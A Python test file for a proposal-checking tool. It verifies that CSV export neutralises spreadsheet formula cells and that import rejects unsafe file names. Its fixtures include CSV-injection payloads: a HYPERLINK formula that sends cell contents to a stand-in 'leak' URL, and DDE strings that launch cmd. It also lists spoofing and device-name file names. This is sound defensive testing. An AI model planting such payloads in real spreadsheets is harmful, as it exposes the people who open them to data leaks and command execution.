"""CSV cells never run as spreadsheet formulas, and import refuses unsafe file names.

Recipes: reliability.md §9 (V01, V09, V13) and §17 (V02b), plus V02 (a 300-character
name must not stop the import). docs/csv.md, "Formulas" and "File names".
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml

from qa_checker.spreadsheet.cells import neutralise, restore

from conftest import HEADER, run_cli

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = HEADER.replace("title: Test proposal\n", "") + (
    'title: "=HYPERLINK(\\"http://127.0.0.1:1/leak?\\"&A1,\\"Click me\\")"\n'
    "code: \"+cmd|' /C calc'!A0\"\n"
    "provider: {name: \"@SUM(1+1)*cmd|' /C calc'!A0\"}\n"
    "description: \"-2+3+cmd|' /C calc'!A0\"\n"
    'developer: "\'Twas a real apostrophe"\n'
    'prerequisites: "\'=SUM(1) was quoted by hand"\n'
    'level: {framework: OQF, value: "-5"}\n'
    'noc_codes: ["=1+1", "72410"]\n'
)


def _dangerous(cell: str) -> bool:
    return cell[:1] in TRIGGERS and not _is_number(cell)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def test_export_neutralises_every_formula_cell(write: Callable[..., Path]) -> None:
    path = write("formula.yaml", FORMULAS)
    result = run_cli("export", str(path), "--output", "-")
    assert result.returncode == 0, result.stderr
    header, row = _rows(result.stdout)
    cells = dict(zip(header, row, strict=True))
    assert not [cell for cell in row if _dangerous(cell)]
    assert cells["title"].startswith("'=HYPERLINK(")
    assert cells["code"] == "'+cmd|' /C calc'!A0"
    assert cells["developer"] == "'Twas a real apostrophe"  # not a formula: left alone
    assert cells["prerequisites"] == "''=SUM(1) was quoted by hand"


def test_summary_csv_neutralises_formula_cells(write: Callable[..., Path]) -> None:
    path = write("formula.yaml", FORMULAS)
    result = run_cli("summary", str(path), "--format", "csv", "--output", "-")
    assert result.returncode == 0, result.stderr
    rows = _rows(result.stdout)
    assert len(rows) == 2
    assert not [cell for cell in rows[1] if _dangerous(cell)]
    assert rows[1][1].startswith("'=HYPERLINK(") and rows[1][2].startswith("'@SUM(")


def test_formula_cells_round_trip_through_import_and_export(write: Callable[..., Path], tmp_path: Path) -> None:
    source = write("formula.yaml", FORMULAS)
    first = tmp_path / "first.csv"
    assert run_cli("export", str(source), "--output", str(first)).returncode == 0
    imported = run_cli("import", str(first), "--output", str(tmp_path / "intake"))
    assert imported.returncode == 0, imported.stderr
    original = yaml.safe_load(FORMULAS)
    back = yaml.safe_load((tmp_path / "intake" / "formula.yaml").read_text(encoding="utf-8"))
    assert back == original
    second = tmp_path / "second.csv"
    assert run_cli("export", str(tmp_path / "intake"), "--output", str(second)).returncode == 0
    assert second.read_bytes() == first.read_bytes()


def test_hand_made_quoted_formula_imports_without_its_quote(tmp_path: Path) -> None:
    sheet = tmp_path / "in.csv"
    sheet.write_text("title,code,developer\n'=SUM(1),'-5,'Twas\n", encoding="utf-8")
    result = run_cli("import", str(sheet), "--output", str(tmp_path / "out"))
    assert result.returncode == 0, result.stderr
    data = yaml.safe_load(next((tmp_path / "out").iterdir()).read_text(encoding="utf-8"))
    assert data["title"] == "=SUM(1)"
    assert data["code"] == "'-5"  # a quoted plain number is not a formula: kept as written
    assert data["developer"] == "'Twas"


@pytest.mark.parametrize(
    "value", ["=1", "'=1", "''=1", "-5", "'-5", "-x", "+", "@a", "\tx", "\rx", "'Twas", "'", "", "a=b", "1e5"]
)
def test_neutralise_and_restore_are_inverses(value: str) -> None:
    cell = neutralise(value)
    assert restore(cell) == value
    assert not (cell[:1] in TRIGGERS and not _is_number(cell))


# --- file names ---------------------------------------------------------------------

REFUSED = {
    "CON.yaml": "Windows device name",
    "aux": "Windows device name",
    "nul.tar.yaml": "Windows device name",
    "com1.yaml": "Windows device name",
    "LPT9.yml": "Windows device name",
    "a\u202eLMY.yaml": "direction-changing",
    "zero\u200bwidth.yaml": "invisible",
    "evil\u2215x.yaml": "looks like a slash",
    "-rf.yaml": "starts with -",
    "x.review.yaml": "reviewer-decision file",
    "a" * 300 + ".yaml": "too long",
}


def test_import_refuses_unsafe_names_and_imports_the_rest(tmp_path: Path) -> None:
    sheet = tmp_path / "names.csv"
    rows = [["file", "title"], *([name, f"T{i}"] for i, name in enumerate(REFUSED)), ["ok.yaml", "fine"]]
    with sheet.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    out = tmp_path / "out"
    result = run_cli("import", str(sheet), "--output", str(out))
    assert result.returncode == 2
    assert "internal error" not in result.stderr and "Traceback" not in result.stderr
    assert [p.name for p in out.iterdir()] == ["ok.yaml"]
    lines = result.stderr.splitlines()
    for number, reason in enumerate(REFUSED.values(), start=2):
        line = next(line for line in lines if line.startswith(f"{sheet}:{number}: "))
        assert reason in line, line
    assert "\u202e" not in result.stderr  # the name is shown escaped, not reordering the line
    assert "wrote 1 proposal file to" in result.stderr


def test_ordinary_names_are_still_accepted(tmp_path: Path) -> None:
    sheet = tmp_path / "names.csv"
    names = ["console.yaml", "con-ed.yaml", "Résumé 2026.yaml", "lpt.yaml", "review.yaml"]
    with sheet.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([["file", "title"], *([n, "t"] for n in names)])
    result = run_cli("import", str(sheet), "--output", str(tmp_path / "out"))
    assert result.returncode == 0, result.stderr
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == sorted(names)


def test_a_cell_with_thousands_of_digits_is_that_rows_error(tmp_path: Path) -> None:
    # V07: Python refuses to convert over 4,300 digits; that once ended the whole import.
    sheet = tmp_path / "sheet.csv"
    rows = ["file,title,instructional_hours", "a.yaml,A title," + "9" * 5000, "b.yaml,B title,36"]
    sheet.write_text("\r\n".join(rows) + "\r\n", encoding="utf-8")
    proc = run_cli("import", str(sheet), "--output", str(tmp_path / "out"))
    assert proc.returncode == 2
    assert "internal error" not in proc.stderr
    assert f"{sheet}:2:" in proc.stderr and "more digits" in proc.stderr
    assert [p.name for p in (tmp_path / "out").iterdir()] == ["b.yaml"]
